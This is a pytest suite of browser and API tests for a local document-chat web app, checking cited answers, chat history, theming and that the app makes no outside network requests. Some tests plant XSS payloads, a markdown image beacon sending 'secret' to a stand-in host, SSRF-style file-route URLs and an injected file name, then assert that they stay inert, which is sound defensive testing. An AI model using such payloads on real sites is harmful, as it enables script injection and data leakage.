"""The chat page in a real browser (Debian's Chromium driven by Playwright) and through gradio_client.

`rag serve` runs in a subprocess on loopback with every non-loopback connection blocked; the
browser records every request the page makes.
"""

from __future__ import annotations

import re
import shutil
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest

HERE = Path(__file__).resolve().parent
CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
    "--disable-quic",
]


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class Server:
    def __init__(self, url: str, process: subprocess.Popen[str], egress_log: Path, log: Path) -> None:
        self.url, self.process, self.egress_log, self.log = url, process, egress_log, log


def start_server(index: Path, tmp: Path, *extra: str) -> Server:
    port = free_port()
    egress, log = tmp / f"egress-{port}.log", tmp / f"serve-{port}.log"
    with log.open("w") as out:
        process = subprocess.Popen(
            [sys.executable, str(HERE / "guarded_cli.py"), str(egress), "serve", "--port", str(port), "--index", str(index), *extra],
            stdout=out,
            stderr=subprocess.STDOUT,
            text=True,
            cwd=tmp,
        )
    url = f"http://127.0.0.1:{port}/"
    deadline = time.time() + 120
    while time.time() < deadline:
        try:
            urllib.request.urlopen(url, timeout=2)
            return Server(url, process, egress, log)
        except OSError:
            if process.poll() is not None:
                pytest.fail("rag serve exited: " + log.read_text())
            time.sleep(0.5)
    process.kill()
    pytest.fail("rag serve did not come up: " + log.read_text())


def stop_server(server: Server) -> None:
    server.process.terminate()
    try:
        server.process.wait(timeout=15)
    except subprocess.TimeoutExpired:
        server.process.kill()
    assert not server.egress_log.exists(), f"the server tried to reach the network: {server.egress_log.read_text()}"


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    tmp = tmp_path_factory.mktemp("serve")
    running = start_server(tmp / "index", tmp)
    yield running
    stop_server(running)


def browser_page(url: str, scheme: str = "light"):
    """A Chromium page on ``url`` that records every request it makes (``page.requests``)."""
    playwright = pytest.importorskip("playwright.sync_api")
    if not Path(CHROMIUM).exists():
        pytest.skip("Debian's chromium is not installed (apt-get install chromium)")
    with playwright.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        context = browser.new_context(viewport={"width": 1400, "height": 1000}, color_scheme=scheme)
        page = context.new_page()
        page.requests = []  # type: ignore[attr-defined]
        page.on("request", lambda r: page.requests.append(r.url))  # type: ignore[attr-defined]
        page.goto(url)
        page.wait_for_selector("#question textarea", timeout=60_000)
        page.wait_for_selector("#draft .loading", state="detached", timeout=60_000)  # the saved chat is back on the page
        yield page
        context.close()
        browser.close()


@pytest.fixture
def page(server: Server):
    yield from browser_page(server.url)


def outside_requests(page, url: str) -> list[str]:
    port = url.rstrip("/").rsplit(":", 1)[1]
    return [u for u in page.requests if not u.startswith((f"http://127.0.0.1:{port}", "data:", "blob:"))]


def contrast(page, selector: str) -> float:
    """WCAG contrast ratio of the text and background colours of the first ``selector``."""
    colours = page.evaluate(
        """(sel) => { const s = getComputedStyle(document.querySelector(sel));
        return [s.color, s.backgroundColor].map(c => c.match(/[\\d.]+/g).slice(0, 3).map(Number)); }""",
        selector,
    )

    def luminance(rgb: list[float]) -> float:
        c = [v / 255 for v in rgb]
        c = [v / 12.92 if v <= 0.03928 else ((v + 0.055) / 1.055) ** 2.4 for v in c]
        return 0.2126 * c[0] + 0.7152 * c[1] + 0.0722 * c[2]

    light, dark = sorted((luminance(colours[0]), luminance(colours[1])), reverse=True)
    return (light + 0.05) / (dark + 0.05)


def upload(page, path: Path) -> None:
    page.get_by_text("Documents", exact=True).first.click()
    page.locator("#upload input[type=file]").set_input_files(str(path))
    page.wait_for_function(
        "() => document.querySelector('#ingest-report') && document.querySelector('#ingest-report').innerText.includes('Indexed')",
        timeout=120_000,
    )


def ask(page, question: str) -> None:
    """Ask on the page and wait until the answer is checked and its sources are shown: the last
    message asked is this question, every question has its reply, and the sources panel is the
    last reply's. (Counting replies before asking raced a restored chat still being drawn.)"""
    box = page.locator("#question textarea")
    box.fill(question)
    box.press("Enter")
    page.wait_for_function(
        """([question]) => { const asked = document.querySelectorAll('#chat .user'), replies = document.querySelectorAll('#chat .bot');
        const p = document.querySelector('#sources [data-turn]');
        return asked.length > 0 && asked[asked.length - 1].innerText.includes(question) && replies.length === asked.length
            && p && Number(p.dataset.turn) === replies.length - 1 && !document.querySelector('#ask').disabled; }""",
        arg=[question],
        timeout=180_000,
    )


def test_upload_ask_and_see_highlighted_sources(page, server: Server, tmp_path: Path) -> None:
    doc = tmp_path / "orchard-guide.md"
    doc.write_text(
        "# Orchard guide\n\nThe Bramble Hill orchard grows 340 apple trees of the Katy variety. "
        "Harvest starts in the second week of September.\n\n## Pruning\n\nTrees are pruned every February.\n",
        encoding="utf-8",
    )
    upload(page, doc)
    assert "Indexed 1 new" in page.locator("#ingest-report").inner_text()
    ask(page, "How many apple trees does the Bramble Hill orchard grow?")
    answer = page.locator("#chat .message").last.inner_text()
    assert "[1]" in answer or "[2]" in answer, answer
    sources = page.locator("#sources")
    assert "orchard-guide.md" in sources.inner_text()
    assert "340 apple trees" in sources.locator("mark").first.inner_text()
    page.screenshot(path=str(tmp_path / "chat-answer.png"), full_page=True)
    assert (tmp_path / "chat-answer.png").stat().st_size > 10_000
    assert outside_requests(page, server.url) == []


def test_hostile_document_stays_inert(page, server: Server, tmp_path: Path) -> None:
    doc = tmp_path / "hostile.md"
    doc.write_text(
        "# Zorblat facts\n\nThe zorblat festival is held every June in Quimper. "
        "![x](http://example.invalid/?q=secret) <img src=x onerror=\"document.title='pwned'\"> "
        "<script>document.title='pwned'</script>\n",
        encoding="utf-8",
    )
    upload(page, doc)
    ask(page, "When is the zorblat festival held? <img src=x onerror=\"document.title='pwned'\">")
    time.sleep(1)
    assert page.title() != "pwned"
    assert page.locator("#chat img, #sources img, #chat-list img").count() == 0
    assert "<img src=x" in page.locator("#chat .user").last.inner_text()  # a question shows as typed
    assert not [u for u in page.requests if "example.invalid" in u]
    assert "zorblat" in page.locator("#sources").inner_text().lower()


def test_api_streams_answers_and_reports_upload_errors(server: Server, tmp_path: Path) -> None:
    from gradio_client import Client, handle_file

    client = Client(server.url, verbose=False)
    good = tmp_path / "tides.txt"
    good.write_text("High tide at Port Evander is at 06:40 on Sundays.\n", encoding="utf-8")
    bad = tmp_path / "broken.pdf"
    bad.write_bytes(b"%PDF-1.4 not really a pdf")
    report, status, _ = client.predict([handle_file(str(good)), handle_file(str(bad))], api_name="/upload")
    assert "Indexed 1 new" in report and re.match(r"\*\*\d+\*\* files, \*\*\d+\*\* passages", status), status
    assert "broken.pdf" in report and "corrupt-pdf" in report

    job = client.submit("When is high tide at Port Evander on Sundays?", 5, 0.0, 200, api_name="/ask")
    updates = list(job)
    assert len(updates) >= 2  # a searching state, then the answer as it streams
    chat, sources, draft, *_ = job.result()
    assert "tides.txt" in sources and "<mark>" in sources, chat
    assert "Understood as" not in sources and draft == ""  # a first question is asked as it is

    before = client.predict(5, 0.0, 200, api_name="/regenerate")[0]  # the same question answered again, in place
    assert len(before) == len(chat)

    # the index folder is never served as files
    index = Path(server.log).parent / "index"
    uploaded = next((index / "uploads").rglob("tides.txt"))
    for path in (index / "manifest.json", uploaded):
        assert path.exists()
        for prefix in ("gradio_api/file=", "file="):
            try:
                with urllib.request.urlopen(f"{server.url}{prefix}{path}", timeout=10) as response:
                    assert response.status >= 400 or b"Port Evander" not in response.read()
            except urllib.error.HTTPError as err:
                assert err.code in (403, 404)

    # remove a document: it is gone from the index and from answers
    sources = [str(uploaded.resolve())]
    report, _status, _ = client.predict(sources, api_name="/remove")
    assert "Removed 1 file" in report
    chat, sources_html, *_ = client.predict("When is high tide at Port Evander on Sundays?", 5, 0.0, 200, api_name="/ask")
    assert "tides.txt" not in sources_html


def test_file_routes_never_fetch_a_url(server: Server) -> None:
    """`/gradio_api/file=URL` must not make the server connect anywhere (the egress log stays empty)."""
    for target in ("https://93.184.215.14/x.png", "http://evil.example/x", "http%3A//evil.example/x", "//evil.example/x"):
        for prefix in ("gradio_api/file=", "file="):
            try:
                with urllib.request.urlopen(f"{server.url}{prefix}{target}", timeout=10) as response:
                    status = response.status
            except urllib.error.HTTPError as err:
                status = err.code
            assert status in (403, 404), (prefix, target, status)
    assert not server.egress_log.exists(), server.egress_log.read_text()


KETTLE = [
    "Kestrel kettle manual. Warranty. The Kestrel kettle is covered by a warranty of 3 years from the date of purchase. "
    "The warranty is void if the kettle was switched on without water.",
    "Cleaning. Descale the Kestrel kettle every 4 weeks with citric acid.",
]


def test_a_conversation_keeps_its_context_cites_clickably_and_shows_the_pdf_page(page, server: Server, tmp_path: Path) -> None:
    from docgen import make_pdf

    upload(page, make_pdf(tmp_path / "kestrel-kettle.pdf", KETTLE))
    page.locator("#new-chat").click()
    page.wait_for_function("() => document.querySelectorAll('#chat .bot').length === 0")  # before counting turns
    ask(page, "How long is the warranty on the Kestrel kettle?")
    assert "3 years" in page.locator("#chat .bot").last.inner_text()
    ask(page, "And what voids it?")  # needs the first question to mean anything
    assert "without water" in page.locator("#chat .bot").last.inner_text()
    assert "Understood as" in page.locator("#sources").inner_text()
    ask(page, "What is the salary of the Kestrel company's chief executive?")  # a follow-up the documents do not answer
    assert "Not answered" in page.locator("#chat .bot").last.inner_text()
    assert page.locator("#sources details.why").count() == 1  # the reason, collapsed
    page.screenshot(path=str(tmp_path / "conversation-light.png"), full_page=True)

    # a citation in the first answer opens that answer's own sources and marks the cited passage
    first = page.locator("#chat .bot").first
    box = page.evaluate(
        """() => { const bubble = document.querySelectorAll('#chat .bot')[0];
        const walker = document.createTreeWalker(bubble, NodeFilter.SHOW_TEXT);
        for (let n = walker.nextNode(); n; n = walker.nextNode()) { const i = n.textContent.indexOf('[1]');
          if (i >= 0) { const r = new Range(); r.setStart(n, i + 1); r.setEnd(n, i + 2); const b = r.getBoundingClientRect();
            return {x: b.x + b.width / 2, y: b.y + b.height / 2}; } } return null; }"""
    )
    assert box is not None, first.inner_text()
    page.mouse.click(box["x"], box["y"])
    page.wait_for_selector("#sources [data-turn='0'] #source-1.flash", timeout=10_000)
    assert "3 years" in page.locator("#sources mark").first.inner_text()
    assert contrast(page, "#sources mark") >= 4.5

    # the cited PDF page, rendered, with the quote marked on it
    page.locator("#sources .page-view summary").first.click()
    image = page.locator("#sources .page-view img").first
    assert image.get_attribute("alt").startswith("Page 1 of kestrel-kettle.pdf")
    assert page.evaluate("(img) => img.complete && img.naturalWidth > 400", image.element_handle())
    assert outside_requests(page, server.url) == []


def test_the_dark_theme_keeps_highlights_and_banners_readable(server: Server, tmp_path: Path) -> None:
    for page in browser_page(server.url, scheme="dark"):
        assert page.evaluate("() => document.body.classList.contains('dark') || document.documentElement.classList.contains('dark')")
        ask(page, "How long is the warranty on the Kestrel kettle?")
        assert contrast(page, "#sources mark") >= 4.5, page.locator("#sources").inner_text()
        ask(page, "What does the chief executive earn?")
        assert "Not answered" in page.locator("#chat .bot").last.inner_text(), page.locator("#chat .bot").last.inner_text()
        assert contrast(page, "#sources .refusal") >= 4.5
        page.screenshot(path=str(tmp_path / "conversation-dark.png"), full_page=True)
        assert outside_requests(page, server.url) == []


def test_chats_survive_a_restart_and_can_be_renamed_exported_and_deleted(tmp_path: Path) -> None:
    from gradio_client import Client, handle_file

    index = tmp_path / "index"
    first = start_server(index, tmp_path)
    try:
        note = tmp_path / "ferry.txt"
        note.write_text("The ferry to Inchcolm leaves at 10:15 every Tuesday.\n", encoding="utf-8")
        client = Client(first.url, verbose=False)
        client.predict([handle_file(str(note))], api_name="/upload")
        client.predict("When does the ferry to Inchcolm leave?", 5, 0.0, 100, api_name="/ask")
    finally:
        stop_server(first)
    second = start_server(index, tmp_path)
    try:
        for page in browser_page(second.url):
            # the chat reopened where it was, with its sources (the list and panels fill in just after the page draws)
            page.wait_for_function(
                "() => document.querySelector('#chat-list').innerText.includes('When does the ferry to Inchcolm leave?')"
            )
            page.wait_for_function("() => [...document.querySelectorAll('#chat .bot')].some(b => b.innerText.includes('10:15'))")
            page.wait_for_function("() => document.querySelector('#sources').innerText.includes('ferry.txt')")
            page.locator("#chat-manage").get_by_text("This chat").click()
            # the title box opens with the chat's own title: typing before it is drawn was overwritten by it
            title = page.locator("#chat-title textarea")
            page.wait_for_function("() => (document.querySelector('#chat-title textarea') || {}).value?.includes('ferry')")
            title.fill("Ferry times")
            page.wait_for_function("() => document.querySelector('#chat-title textarea').value === 'Ferry times'")
            page.locator("#rename").click()
            # a whole-suite run on 2 cores once took longer than 30 s to redraw the list: wait as for an answer
            page.wait_for_function("() => document.querySelector('#chat-list').innerText.includes('Ferry times')", timeout=90_000)
            page.locator("#export-md").click()
            link = page.locator("#export a").first
            link.wait_for(timeout=10_000)
            with page.expect_download() as download:
                link.click()
            exported = Path(download.value.path()).read_text(encoding="utf-8")
            assert exported.startswith("# Ferry times") and "10:15" in exported and "ferry.txt" in exported
            page.locator("#delete-chat").click()
            page.locator("#confirm-delete").click()
            page.wait_for_function("() => !document.querySelector('#chat-list').innerText.includes('Ferry times')")
            assert page.locator("#chat .bot").count() == 0
    finally:
        stop_server(second)


class EndlessLLM:
    """Writes one true sentence, then words that never finish a sentence, slowly, until stopped."""

    name = "endless.gguf"
    n_ctx = 4096

    def count_tokens(self, messages: list[dict[str, str]]) -> int:
        return sum(len(m["content"].split()) + 4 for m in messages)

    def describe(self) -> dict[str, str]:
        return {}

    def generate(self, messages: list[dict[str, str]], **kwargs: object) -> Iterator[object]:
        from rag.answer.llm import GenerationChunk

        yield GenerationChunk("The kiln at Harrow Lane is fired every Thursday [1]. ", None)
        for _ in range(1200):
            time.sleep(0.05)
            yield GenerationChunk("and ", None)
        yield GenerationChunk("", "length")


def test_stop_ends_with_the_verified_part_a_note_and_its_sources(tmp_path: Path, embedder) -> None:
    from rag.config import Settings
    from rag.service import Rag
    from ui.app import create_app

    (tmp_path / "kiln.txt").write_text("The kiln at Harrow Lane is fired every Thursday.\n", encoding="utf-8")
    rag = Rag(Settings(index_dir=tmp_path / "index", model="endless.gguf"), embedder=embedder, llm=EndlessLLM())  # type: ignore[arg-type]
    rag.ingest([tmp_path / "kiln.txt"])
    app = create_app(rag)
    app.launch(server_name="127.0.0.1", server_port=None, prevent_thread_lock=True, quiet=True, ssr_mode=False)
    try:
        for page in browser_page(app.local_url):
            assert page.locator("#stop").is_disabled()  # nothing runs yet
            page.locator("#question textarea").fill("When is the kiln at Harrow Lane fired?")
            page.locator("#question textarea").press("Enter")
            # a period is judged once the next words arrive: the draft shows them, the checked sentence stands in the chat
            page.wait_for_function(
                "() => document.querySelector('#draft').innerText.includes('not yet checked')"
                " && document.querySelector('#draft').innerText.includes('and')",
                timeout=60_000,
            )
            bubble = page.locator("#chat .bot").last
            assert "Thursday" in bubble.inner_text() and "and and" not in bubble.inner_text()  # the draft stays out of the answer
            assert page.locator("#ask").is_disabled() and page.locator("#stop").is_enabled()
            page.locator("#stop").click()
            page.wait_for_selector("#sources [data-turn='0']", timeout=30_000)
            text = page.locator("#chat .bot").last.inner_text()
            assert "Thursday [1]" in text and text.rstrip().endswith("[stopped]") and "and and" not in text
            assert "Stopped." in page.locator("#sources").inner_text() and "kiln.txt" in page.locator("#sources").inner_text()
            assert page.locator("#draft").inner_text().strip() == ""
            page.wait_for_function("() => !document.querySelector('#ask').disabled && document.querySelector('#stop').disabled")
    finally:
        app.close()


def test_a_chat_answers_from_the_documents_picked_for_it(page, server: Server, tmp_path: Path) -> None:
    """Two documents answer the same question differently; a chat limited to one cites only it,
    keeps its choice when reopened, and a new chat answers from all documents again."""
    for name, hours in (("depot-north.md", "06:00 to 14:00"), ("depot-south.md", "10:00 to 18:00")):
        doc = tmp_path / name
        doc.write_text(f"# Depot\n\nThe Kestrel depot is open from {hours} on weekdays.\n", encoding="utf-8")
        upload(page, doc)
    page.locator("#new-chat").click()
    picker = page.locator("#scope input")
    picker.click()
    picker.fill("depot-south")
    page.locator("#scope li[role=option]", has_text="depot-south.md").first.click()
    page.keyboard.press("Escape")
    ask(page, "When is the Kestrel depot open?")
    sources = page.locator("#sources").inner_text()
    assert "depot-south.md" in sources and "depot-north.md" not in sources, sources
    page.screenshot(path=str(tmp_path / "picked.png"), full_page=True)

    page.locator("#new-chat").click()
    page.wait_for_function("() => document.querySelectorAll('#scope .token').length === 0")
    page.locator("#chat-list label", has_text="When is the Kestrel depot open?").first.click()
    page.wait_for_function("() => [...document.querySelectorAll('#scope .token')].some(t => t.innerText.includes('depot-south.md'))")


def test_serve_watch_starts_on_an_existing_index_and_shows_file_names_as_written(tmp_path: Path, rag) -> None:
    """`rag serve --watch` on an index that exists (the page and the watch open it at once), with a
    file whose name closes a code span and then is an image: the page shows the name as written
    and asks no outside host for anything."""
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "a.md").write_text("The archive opens at nine.", encoding="utf-8")
    rag("ingest", str(docs), index=tmp_path / "index")
    name = "x` ![t](https:evil.example) `.txt"
    (docs / name).write_text("The tide is high at noon.", encoding="utf-8")
    running = start_server(tmp_path / "index", tmp_path, "--watch", str(docs))
    try:
        for page in browser_page(running.url):
            page.get_by_text("Documents", exact=True).first.click()
            page.wait_for_function("(name) => document.querySelector('#index-status').innerText.includes(name)", arg=name, timeout=120_000)
            assert page.locator("#index-status img").count() == 0 and page.locator("#index-status a").count() == 0
            assert "**2** files" in page.locator("#index-status").inner_text() or "2 files" in page.locator("#index-status").inner_text()
            assert outside_requests(page, running.url) == []
    finally:
        stop_server(running)


HOME_OFFICE = """# Home office policy

Staff of the Hamburg office may work from home up to three days a week. A monthly allowance of 30 euros
covers internet costs. Home-office days are agreed with the team lead one week in advance.
"""


def test_a_topic_change_in_a_chat_is_not_answered_from_the_last_topic(page, server: Server, tmp_path: Path) -> None:
    """Found in the chat page: the dress-code question after a home-office question was answered
    from the home-office policy (the documents say nothing about a dress code); asked alone, it is refused."""
    (tmp_path / "home-office.md").write_text(HOME_OFFICE, encoding="utf-8")
    upload(page, tmp_path / "home-office.md")
    page.locator("#new-chat").click()
    page.wait_for_function("() => document.querySelectorAll('#chat .bot').length === 0")
    ask(page, "How many days a week may staff of the Hamburg office work from home?")
    assert "three days" in page.locator("#chat .bot").last.inner_text()
    ask(page, "What is the dress code at the Hamburg office?")
    changed = page.locator("#chat .bot").last.inner_text()
    assert "Not answered" in changed and "home" not in changed.lower(), changed
    ask(page, "And how much is the internet allowance?")  # back on the first topic
    assert "30 euros" in page.locator("#chat .bot").last.inner_text()
    page.screenshot(path=str(tmp_path / "topic-change.png"), full_page=True)
    assert outside_requests(page, server.url) == []
